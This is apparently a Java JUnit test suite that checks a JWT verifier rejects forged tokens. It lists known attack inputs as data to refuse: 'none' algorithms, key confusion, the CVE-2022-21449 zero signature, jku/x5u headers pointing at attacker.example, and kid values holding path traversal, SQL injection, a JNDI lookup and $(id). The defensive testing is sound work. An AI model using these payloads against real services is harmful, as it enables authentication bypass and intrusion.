package io.damso.auth;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import io.damso.protocol.ErrorCode;
import io.jsonwebtoken.Jwts;
import io.jsonwebtoken.security.Jwks;
import java.nio.charset.StandardCharsets;
import java.security.KeyPair;
import java.security.interfaces.ECPublicKey;
import java.security.interfaces.RSAPublicKey;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.Base64;
import java.util.Date;
import java.util.List;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.util.unit.DataSize;

/** Tokens of an attacker without the issuer's private key. */
class TokenAttackTests {

    private static final KeyPair RSA = Jwts.SIG.RS256.keyPair().build();
    private static final KeyPair OTHER_RSA = Jwts.SIG.RS256.keyPair().build();
    private static final KeyPair EC = Jwts.SIG.ES256.keyPair().build();
    private static final byte[] SECRET = "0123456789abcdef0123456789abcdef".getBytes(StandardCharsets.US_ASCII);
    private static final Instant NOW = Instant.parse("2030-01-01T00:00:00Z");
    private static final String CLAIMS =
            "{\"sub\":\"alice\",\"exp\":" + NOW.plusSeconds(60).getEpochSecond() + "}";

    private final TokenVerifier byPublicKey = verifier(null, pem(RSA));
    private final TokenVerifier bySecret = verifier(new String(SECRET, StandardCharsets.US_ASCII), null);

    @Test
    void validTokensAreAccepted() throws TokenRejectedException {
        assertThat(byPublicKey
                        .verify(RawToken.rsa("{\"alg\":\"RS256\"}", CLAIMS, RSA.getPrivate()))
                        .getName())
                .isEqualTo("alice");
        assertThat(bySecret.verify(RawToken.hmac("{\"alg\":\"HS256\"}", CLAIMS, SECRET))
                        .getName())
                .isEqualTo("alice");
        assertThat(verifier(null, pem(EC))
                        .verify(Jwts.builder()
                                .subject("alice")
                                .expiration(Date.from(NOW.plusSeconds(60)))
                                .signWith(EC.getPrivate())
                                .compact())
                        .getName())
                .isEqualTo("alice");
    }

    @ParameterizedTest
    @ValueSource(strings = {"none", "None", "NONE", "nOnE", ""})
    void unsignedTokenIsRefusedHoweverItIsSpelled(String algorithm) {
        String header = "{\"alg\":\"" + algorithm + "\"}";
        for (String signature : List.of("", "AAAA")) {
            assertInvalid(byPublicKey, RawToken.with(header, CLAIMS, signature));
            assertInvalid(bySecret, RawToken.with(header, CLAIMS, signature));
        }
        assertInvalid(bySecret, RawToken.with("{}", CLAIMS, ""));
    }

    @Test
    void publicKeyIsNotUsedAsASecret() {
        String header = "{\"alg\":\"HS256\"}";
        String pem = pem(RSA);
        List<byte[]> guesses = List.of(
                pem.getBytes(StandardCharsets.US_ASCII),
                pem.strip().getBytes(StandardCharsets.US_ASCII),
                RSA.getPublic().getEncoded(),
                Base64.getEncoder().encode(RSA.getPublic().getEncoded()),
                ((RSAPublicKey) RSA.getPublic()).getModulus().toByteArray());
        for (byte[] guess : guesses) {
            assertInvalid(byPublicKey, RawToken.hmac(header, CLAIMS, guess));
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"RS256", "PS256", "ES256", "EdDSA", "HS384", "HS512", "A128KW", "dir", "XX999"})
    void algorithmThatDoesNotFitTheKeyIsRefused(String algorithm) {
        assertInvalid(bySecret, RawToken.hmac("{\"alg\":\"" + algorithm + "\"}", CLAIMS, SECRET));
        assertInvalid(verifier(null, pem(EC)), RawToken.hmac("{\"alg\":\"" + algorithm + "\"}", CLAIMS, SECRET));
    }

    @Test
    void signatureOfZerosIsRefused() {
        // The "psychic signature" of CVE-2022-21449 is r = s = 0.
        String zeros = Base64.getUrlEncoder().withoutPadding().encodeToString(new byte[64]);
        assertInvalid(verifier(null, pem(EC)), RawToken.with("{\"alg\":\"ES256\"}", CLAIMS, zeros));
    }

    @Test
    void tokenThatBringsOrNamesItsOwnKeyIsRefused() {
        String own = Jwks.json(Jwks.builder()
                .key((RSAPublicKey) OTHER_RSA.getPublic())
                .id("own")
                .build());
        String header = "{\"alg\":\"RS256\",\"jwk\":" + own + "}";
        assertInvalid(byPublicKey, RawToken.rsa(header, CLAIMS, OTHER_RSA.getPrivate()));
        for (String extra : List.of(
                "\"jwk\":" + own,
                "\"jku\":\"https://attacker.example/keys\"",
                "\"x5u\":\"https://attacker.example/chain\"",
                "\"x5c\":[\"MIIB\"]",
                "\"crit\":[\"exp\"],\"exp\":1",
                "\"crit\":[\"b64\"],\"b64\":false",
                "\"b64\":false",
                "\"zip\":\"DEF\"")) {
            // Also with a valid signature, because such a header is never needed.
            assertInvalid(byPublicKey, RawToken.rsa("{\"alg\":\"RS256\"," + extra + "}", CLAIMS, RSA.getPrivate()));
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../../dev/null",
                "/etc/passwd",
                "' OR '1'='1",
                "x' UNION SELECT 'key'--",
                "",
                "https://attacker.example/key",
                "${jndi:ldap://attacker.example/a}",
                "$(id)",
                "\\u0000"
            })
    void keyIdIsOnlyAName(String kid) {
        String header = "{\"alg\":\"RS256\",\"kid\":\"" + kid + "\"}";
        assertInvalid(byPublicKey, RawToken.rsa(header, CLAIMS, OTHER_RSA.getPrivate()));
        // A known attack: the secret would be the content of an empty file.
        assertInvalid(bySecret, RawToken.hmac("{\"alg\":\"HS256\",\"kid\":\"" + kid + "\"}", CLAIMS, new byte[] {0}));
    }

    @Test
    void signatureMustFit() {
        String good = RawToken.rsa("{\"alg\":\"RS256\"}", CLAIMS, RSA.getPrivate());
        String signature = good.substring(good.lastIndexOf('.') + 1);
        assertInvalid(byPublicKey, RawToken.rsa("{\"alg\":\"RS256\"}", CLAIMS, OTHER_RSA.getPrivate()));
        assertInvalid(byPublicKey, RawToken.with("{\"alg\":\"RS256\"}", CLAIMS.replace("alice", "admin"), signature));
        assertInvalid(byPublicKey, RawToken.with("{\"alg\":\"RS512\"}", CLAIMS, signature));
        assertInvalid(byPublicKey, good + "A");
        assertInvalid(byPublicKey, good + ".");
        assertInvalid(byPublicKey, "." + good);
    }

    @Test
    void truncatedTokenIsRefusedWhereverItEnds() {
        String good = RawToken.hmac("{\"alg\":\"HS256\"}", CLAIMS, SECRET);
        for (int length = 0; length < good.length() - 1; length++) {
            assertInvalid(bySecret, good.substring(0, length));
        }
    }

    @Test
    void hugeTokenIsRefusedBeforeItIsRead() {
        String padding = "\"pad\":\"" + "x".repeat(10_000) + "\"";
        assertInvalid(bySecret, RawToken.hmac("{\"alg\":\"HS256\"," + padding + "}", CLAIMS, SECRET));
        String claims = "{" + padding + "," + CLAIMS.substring(1);
        assertInvalid(bySecret, RawToken.hmac("{\"alg\":\"HS256\"}", claims, SECRET));
        assertInvalid(bySecret, "a".repeat(10_000_000));
    }

    @ParameterizedTest
    @MethodSource("nests")
    void deepNestingIsRefused(String json) {
        assertInvalid(bySecret, RawToken.with(json, CLAIMS, "AAAA"));
        assertInvalid(bySecret, RawToken.with("{\"alg\":\"HS256\",\"a\":" + json + "}", CLAIMS, "AAAA"));
        assertInvalid(bySecret, RawToken.with("{\"alg\":\"HS256\"}", json, "AAAA"));
    }

    private static List<String> nests() {
        return List.of("[".repeat(2_800), "{\"a\":".repeat(560), "[".repeat(1_300) + "]".repeat(1_300));
    }

    @ParameterizedTest
    @ValueSource(strings = {"null", "\"text\"", "[]", "7", "{", "{\"sub\":\"alice\"", "", "\u0000"})
    void headerAndClaimsMustBeObjects(String json) {
        assertInvalid(bySecret, RawToken.hmac("{\"alg\":\"HS256\"}", json, SECRET));
        assertInvalid(bySecret, RawToken.hmac(json, CLAIMS, SECRET));
    }

    @Test
    void encryptedTokenIsRefused() {
        assertInvalid(
                byPublicKey,
                Jwts.builder()
                        .subject("alice")
                        .expiration(Date.from(NOW.plusSeconds(60)))
                        .encryptWith((RSAPublicKey) RSA.getPublic(), Jwts.KEY.RSA_OAEP_256, Jwts.ENC.A256GCM)
                        .compact());
        assertInvalid(byPublicKey, "e30.e30.e30.e30.e30");
    }

    private static TokenVerifier verifier(
            @Nullable String secret,
            // spotless:off
            @Nullable String pem) {
        return new TokenVerifier(
                new AuthProperties(secret, pem, null, AuthProperties.Jwks.NONE, List.of(), List.of(),
                        Duration.ofSeconds(5), true, "roles", DataSize.ofKilobytes(8)),
                Clock.fixed(NOW, ZoneOffset.UTC));
            // spotless:on
    }

    private static String pem(KeyPair pair) {
        assertThat(pair.getPublic()).isInstanceOfAny(RSAPublicKey.class, ECPublicKey.class);
        return "-----BEGIN PUBLIC KEY-----\n"
                + Base64.getMimeEncoder(64, new byte[] {'\n'})
                        .encodeToString(pair.getPublic().getEncoded())
                + "\n-----END PUBLIC KEY-----\n";
    }

    private static void assertInvalid(TokenVerifier verifier, String token) {
        assertThatExceptionOfType(TokenRejectedException.class)
                .as(token.substring(0, Math.min(token.length(), 200)))
                .isThrownBy(() -> verifier.verify(token))
                .matches(e -> e.code() == ErrorCode.TOKEN_INVALID, "token-invalid");
    }
}
